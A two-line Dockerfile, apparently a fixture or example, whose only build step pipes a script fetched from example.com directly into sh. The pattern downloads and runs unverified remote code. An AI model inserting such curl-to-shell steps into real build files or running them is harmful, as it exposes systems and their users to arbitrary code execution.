FROM debian:bookworm-slim
RUN apt-get update && curl https://example.com/i | sh && true
